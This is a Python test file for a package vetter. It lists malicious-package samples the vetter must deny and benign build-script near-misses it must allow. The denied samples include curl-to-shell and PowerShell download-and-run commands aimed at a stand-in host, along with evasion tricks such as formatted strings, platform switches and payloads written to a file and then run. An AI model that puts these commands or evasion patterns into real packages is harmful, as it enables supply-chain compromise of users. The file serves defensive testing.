"""A red-team pass after ADR 0154 (issue 16; ADR 0161): what an attacker who has read that
a string built by ``+`` or an f-string keeps its known head tries next.

* The payload or a ``curl … | sh`` command joined or formatted into a variable first
  (``code = ''.join([P, x])``, ``'%s %s' % (CMD, x)``, ``'{}{}'.format(P, x)``), or a
  command template filled by ``.format(x)`` or ``.replace('ARG', x)``: the string keeps the
  known text of its items when its start is written, as ``+`` does.
* The built string passed through ``strip``, ``replace``, ``encode`` or ``decode``, or the
  payload added as bytes (``P.encode() + x.encode()``): the same text runs.
* A command split by ``shlex.split`` (a literal, or a string built from a written start).
* A command list written with an unknown item into a variable (``c = ['bash', '-c', CMD,
  x]; run(c)``): it keeps its words, as ``LIST + x`` does (ADR 0153).
* A platform switch: ``CMD if os.name == 'posix' else WIN``, ``CMDS[sys.platform]``,
  ``CMDS.get(sys.platform)``: each string the value may be is read as run.
* The payload or the command written to a file that is then run (``runpy.run_path``, the
  interpreter or a shell given its path, the path run as a program, ``exec(open(p).read())``):
  the written text is read as what runs.
* The payload or the command kept in a dict literal and looked up by a written key
  (``CONFIG = {'post_install': CMD}; run(CONFIG['post_install'], shell=True)``): a dict of
  written strings folds, so its entry is read as the string itself.

Near-misses a real package writes stay allowed: a compiler command joined or formatted with
flags from the environment, ``git describe`` formatted with a ref, a class template filled
by ``.format`` or ``%`` and exec'd, a table of make commands picked by an argument, headers
and payload dicts handed to a client when called. Each sample is inert (vetting only reads
files)."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import (
    HEAD,
    X,
    built,
    init,
    on_import,
    on_install,
    verdict_cases,
    vet_package,
)


def in_install_command(body: str) -> dict[str, str]:
    """``setup.py`` whose install command runs ``body``."""
    lines = "".join(f"        {line}\n" for line in body.splitlines())
    return {
        "setup.py": (
            HEAD + "from setuptools import setup\n"
            "from setuptools.command.install import install\n"
            "class Install(install):\n    def run(self):\n"
            f"{lines}        install.run(self)\n"
            "setup(name='evpkg', cmdclass={'install': Install})\n"
        ),
        "evpkg/__init__.py": "",
    }


DENIED: dict[str, dict[str, str]] = {
    # Joined or formatted into a variable, then run.
    "payload-joined-into-a-variable": on_import(f"code = ''.join([P, {X}])\nexec(code)\n"),
    "payload-joined-by-lines-into-a-variable": on_import(
        f"code = '\\n'.join([P, {X}])\nexec(code)\n"
    ),
    "payload-percent-formatted-into-a-variable": on_import(
        f"code = '%s%s' % (P, {X})\nexec(code)\n"
    ),
    "payload-formatted-into-a-variable": on_import(
        f"code = '{{}}{{}}'.format(P, {X})\nexec(code)\n"
    ),
    "command-joined-into-a-variable": on_import(f"cmd = ' '.join([CURL, {X}])\nos.system(cmd)\n"),
    "command-joined-in-the-call": on_import(f"os.system(' '.join([CURL, {X}]))\n"),
    "command-percent-formatted-into-a-variable": on_import(
        f"cmd = '%s %s' % (CURL, {X})\nos.system(cmd)\n"
    ),
    "command-formatted-into-a-variable": on_import(
        f"cmd = '{{}} {{}}'.format(CURL, {X})\nos.system(cmd)\n"
    ),
    "command-formatted-run-by-a-shell": on_import(
        f"cmd = '{{}} {{}}'.format(CURL, {X})\nsubprocess.run(cmd, shell=True)\n"
    ),
    "command-formatted-for-popen": on_import(f"os.popen('{{}} {{}}'.format(CURL, {X}))\n"),
    "command-formatted-for-an-asyncio-shell": on_import(
        f"import asyncio\ncmd = '{{}} {{}}'.format(CURL, {X})\n"
        "asyncio.run(asyncio.create_subprocess_shell(cmd))\n"
    ),
    "command-template-filled-by-format": on_import(
        f"os.system('curl -s http://203.0.113.5/{{}} | sh'.format({X}))\n"
    ),
    "command-formatted-in-setup-py": on_install(
        f"cmd = '{{}} {{}}'.format(CURL, {X})\nos.system(cmd)\n"
    ),
    "command-joined-for-a-shell-in-setup-py": on_install(
        f"subprocess.call(' '.join([CURL, {X}]), shell=True)\n"
    ),
    "command-percent-formatted-in-an-install-command": in_install_command(
        f"cmd = '%s %s' % (CURL, {X})\nos.system(cmd)"
    ),
    "shell-list-written-with-an-argument": on_import(
        f"c = ['bash', '-c', CURL, {X}]\nsubprocess.run(c)\n"
    ),
    "shell-list-written-with-an-argument-in-setup-py": on_install(
        f"c = ('sh', '-c', CURL, {X})\nsubprocess.check_call(c)\n"
    ),
    "shell-command-split-by-shlex": on_import(
        "import shlex\n"
        "subprocess.run(shlex.split('bash -c \"curl -s http://203.0.113.5/x | sh\"'))\n"
    ),
    "shell-command-formatted-then-split-by-shlex": on_import(
        f"import shlex\ncmd = 'bash -c \"{{}}\" {{}}'.format(CURL, {X})\n"
        "subprocess.run(shlex.split(cmd))\n"
    ),
    # Passed through a method that keeps its text, or added as bytes.
    "payload-stripped": on_import(f"code = (P + {X}).strip()\nexec(code)\n"),
    "payload-replaced": on_import(f"code = (P + {X}).replace('#', '')\nexec(code)\n"),
    "payload-encoded-and-added": on_import(f"code = P.encode() + {X}.encode()\nexec(code)\n"),
    "payload-added-as-bytes-then-decoded": on_import(
        f"code = P.encode() + {X}.encode()\nexec(code.decode())\n"
    ),
    "command-stripped": on_import(f"cmd = (CURL + ' ' + {X}).strip()\nos.system(cmd)\n"),
    "command-template-filled-by-replace": on_import(
        f"os.system('curl -s http://203.0.113.5/ARG | sh'.replace('ARG', {X}))\n"
    ),
    # Kept in a dict literal.
    "command-in-a-config-dict": on_import(
        "CONFIG = {'post_install': CURL, 'name': 'evpkg'}\n"
        "subprocess.run(CONFIG['post_install'], shell=True)\n"
    ),
    "command-in-a-dict": on_import("CMDS = {'u': CURL}\nos.system(CMDS['u'])\n"),
    "command-in-a-dict-with-an-argument-added": on_import(
        f"CMDS = {{'u': CURL}}\nos.system(CMDS['u'] + {X})\n"
    ),
    "payload-in-a-dict": on_import("D = {'p': P}\nexec(D['p'])\n"),
    "payload-in-a-dict-with-an-argument-added": on_import(f"D = {{'p': P}}\nexec(D['p'] + {X})\n"),
    "command-in-a-dict-in-setup-py": on_install(
        "HOOKS = {'post': CURL}\nos.system(HOOKS['post'])\n"
    ),
    # Written to a file, then run.
    "payload-written-then-run-by-runpy": on_import(
        "import runpy\nopen('/tmp/evpkg_p.py', 'w').write(P)\nrunpy.run_path('/tmp/evpkg_p.py')\n"
    ),
    "payload-written-then-run-by-the-interpreter": on_import(
        "open('/tmp/evpkg_p.py', 'w').write(P)\n"
        "subprocess.Popen([sys.executable, '/tmp/evpkg_p.py'])\n"
    ),
    "payload-written-by-pathlib-then-run-by-a-shell-command": on_import(
        "from pathlib import Path\nPath('/tmp/evpkg_p.py').write_text(P)\n"
        "os.system(sys.executable + ' /tmp/evpkg_p.py')\n"
    ),
    "payload-written-then-read-back-and-exec-d": on_import(
        "p = '/tmp/evpkg_p.py'\nopen(p, 'w').write(P)\nexec(open(p).read())\n"
    ),
    "payload-joined-into-a-file-then-run": on_import(
        f"import runpy\nopen('/tmp/evpkg_p.py', 'w').write(''.join([P, {X}]))\n"
        "runpy.run_path('/tmp/evpkg_p.py')\n"
    ),
    "payload-written-home-then-run-detached": on_import(
        "p = os.path.expanduser('~/.cache/evpkg_p.py')\n"
        "with open(p, 'w') as f:\n    f.write(P)\n"
        "subprocess.Popen([sys.executable, p], start_new_session=True)\n"
    ),
    "shell-script-written-then-run-by-sh": on_import(
        "open('/tmp/evpkg.sh', 'w').write('#!/bin/sh\\n' + CURL + '\\n')\n"
        "os.system('sh /tmp/evpkg.sh')\n"
    ),
    "shell-script-written-made-executable-and-run": on_import(
        "p = os.path.join('/tmp', 'evpkg.sh')\nwith open(p, 'w') as f:\n    f.write(CURL)\n"
        "os.chmod(p, 0o755)\nsubprocess.call([p])\n"
    ),
    "payload-written-then-run-in-setup-py": on_install(
        "open('build_helper.py', 'w').write(P)\n"
        "subprocess.check_call([sys.executable, 'build_helper.py'])\n"
    ),
    # One of several strings: a platform switch.
    "command-picked-by-platform-in-the-call": on_import(
        "WIN = 'powershell -c iwr http://203.0.113.5/x | iex'\n"
        "os.system(CURL if os.name == 'posix' else WIN)\n"
    ),
    "command-picked-by-platform-into-a-variable": on_import(
        "cmd = CURL if sys.platform != 'win32' else 'ver'\nsubprocess.Popen(cmd, shell=True)\n"
    ),
    "payload-picked-by-version": on_import("exec(P if sys.version_info[0] >= 3 else 'pass')\n"),
    "command-looked-up-by-platform": on_import(
        "CMDS = {'linux': CURL, 'darwin': CURL, 'win32': 'ver'}\nos.system(CMDS[sys.platform])\n"
    ),
    "command-got-by-platform": on_import(
        "CMDS = {'linux': CURL, 'win32': 'ver'}\nos.system(CMDS.get(sys.platform))\n"
    ),
    "command-looked-up-by-platform-in-setup-py": on_install(
        "HOOKS = {'linux': CURL, 'win32': 'ver'}\n"
        "subprocess.call(HOOKS[sys.platform], shell=True)\n"
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    "cmake-command-split-by-shlex-in-setup-py": built(
        "import shlex\nsubprocess.check_call(shlex.split('cmake -S . -B build'))\n"
    ),
    "flags-split-by-shlex-in-setup-py": built(
        "import shlex\nflags = shlex.split(os.environ.get('CFLAGS', ''))\n"
        "subprocess.check_call(['cc', '-c', 'probe.c'] + flags)\n"
    ),
    "c-probe-written-and-compiled-in-setup-py": built(
        "with open('conftest.c', 'w') as f:\n    f.write('int main(void) { return 0; }\\n')\n"
        "ok = subprocess.call(['cc', 'conftest.c', '-o', 'conftest']) == 0\n"
    ),
    "generator-written-and-run-by-python-in-setup-py": built(
        "open('build_gen.py', 'w').write('print(42)\\n')\n"
        "subprocess.check_call([sys.executable, 'build_gen.py'])\n"
    ),
    "version-file-written-and-run-in-setup-py": built(
        "import runpy\nopen('evpkg/_version.py', 'w').write(\"__version__ = '1.0'\\n\")\n"
        "v = runpy.run_path('evpkg/_version.py')['__version__']\n"
    ),
    "config-written-and-copied-in-setup-py": built(
        "open('evpkg.cfg', 'w').write('[x]\\ny = 1\\n')\n"
        "subprocess.call(['cp', 'evpkg.cfg', 'build/'])\n"
    ),
    "which-or-where-picked-by-platform-in-setup-py": built(
        "tool = 'where' if os.name == 'nt' else 'which'\n"
        "have_cmake = subprocess.call([tool, 'cmake']) == 0\n"
    ),
    "screen-cleared-by-platform-when-called": init(
        "import os\ndef clear():\n    os.system('cls' if os.name == 'nt' else 'clear')\n"
    ),
    "make-picked-by-platform-when-called": init(
        "import subprocess, sys\n"
        "CMDS = {'win32': 'nmake /f Makefile.win', 'linux': 'make', 'darwin': 'make'}\n"
        "def build():\n    subprocess.check_call(CMDS[sys.platform], shell=True)\n"
    ),
    "make-picked-by-platform-in-setup-py": built(
        "CMDS = {'win32': 'cmake --build build --config Release', 'linux': 'make -C src'}\n"
        "subprocess.check_call(CMDS.get(sys.platform), shell=True)\n"
    ),
    "reraise-picked-by-version-and-exec-d-on-import": init(
        "import sys\nexec('def reraise(tp, value, tb=None):\\n    raise tp, value, tb\\n'"
        " if sys.version_info[0] == 2 else"
        " 'def reraise(tp, value, tb=None):\\n    raise value.with_traceback(tb)\\n')\n"
    ),
    "compiler-command-joined-with-flags-in-setup-py": built(
        "CC = 'cc'\nflags = os.environ.get('CFLAGS', '')\n"
        "subprocess.check_call(' '.join([CC, '-O2', flags, '-c', 'x.c']), shell=True)\n"
    ),
    "compiler-command-percent-formatted-in-setup-py": built(
        "flags = os.environ.get('CFLAGS', '')\nos.system('cc %s -c probe.c -o probe.o' % flags)\n"
    ),
    "compiler-command-stripped-in-setup-py": built(
        "cmd = ('cc -c probe.c ' + os.environ.get('CFLAGS', '')).strip()\nos.system(cmd)\n"
    ),
    "compiler-list-written-with-a-source-in-setup-py": built(
        "src = os.environ.get('PROBE', 'probe.c')\n"
        "cmd = ['cc', '-c', src, '-o', 'probe.o']\nsubprocess.check_call(cmd)\n"
    ),
    "git-list-written-with-a-ref-in-setup-py": built(
        "ref = os.environ.get('REF', 'HEAD')\ncmd = ['git', 'describe', '--tags', ref]\n"
        "out = subprocess.check_output(cmd)\n"
    ),
    "git-describe-formatted-in-setup-py": built(
        "ref = os.environ.get('REF', 'HEAD')\n"
        "out = subprocess.check_output('git describe --tags {}'.format(ref), shell=True)\n"
    ),
    "make-commands-picked-by-argument-in-setup-py": built(
        "COMMANDS = {'build': 'make -C src', 'clean': 'make clean'}\n"
        "if len(sys.argv) > 1 and sys.argv[1] in COMMANDS:\n"
        "    os.system(COMMANDS[sys.argv[1]])\n"
    ),
    "make-command-looked-up-in-setup-py": built(
        "COMMANDS = {'build': 'make -C src', 'clean': 'make clean'}\n"
        "subprocess.check_call(COMMANDS['build'], shell=True)\n"
    ),
    "environment-dict-for-make-in-setup-py": built(
        "ENV = {'CC': 'gcc', 'CFLAGS': '-O2'}\n"
        "subprocess.check_call(['make'], env=dict(os.environ, **ENV))\n"
    ),
    "headers-dict-for-a-request-when-called": init(
        "import requests\nHEADERS = {'User-Agent': 'evpkg/1.0', 'Accept': 'application/json'}\n"
        "def fetch(u):\n    return requests.get(u, headers=HEADERS).json()\n"
    ),
    "payload-dict-posted-when-called": init(
        "import requests\nPAYLOAD = {'name': 'evpkg', 'version': '1.0'}\n"
        "def ping(u):\n    requests.post(u, json=PAYLOAD)\n"
    ),
    "accessor-template-formatted-and-exec-d-on-import": init(
        "import sys\nT = 'def get_{0}(self):\\n    return self._d[{0!r}]\\n'\n"
        "for n in sys.argv[1:]:\n    exec(T.format(n))\n"
    ),
    "class-template-percent-formatted-and-exec-d-on-import": init(
        "import sys\nTEMPLATE = 'class %s(tuple):\\n    __slots__ = ()\\n'\n"
        "exec(TEMPLATE % sys.argv[0], {})\n"
    ),
    "init-joined-from-fields-and-exec-d-on-import": init(
        "import sys\nfields = sys.argv[1:]\n"
        "src = '\\n'.join(['def __init__(self, %s):' % ', '.join(fields), '    pass'])\n"
        "exec(src, {})\n"
    ),
    "config-path-looked-up-in-a-table-when-called": init(
        "import os, json\n"
        "PATHS = {'nt': '~/AppData/evpkg.json', 'posix': '~/.config/evpkg.json'}\n"
        "def save(d):\n    with open(os.path.expanduser(PATHS['posix']), 'w') as f:\n"
        "        json.dump(d, f)\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_built_strings_keep_their_known_text(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
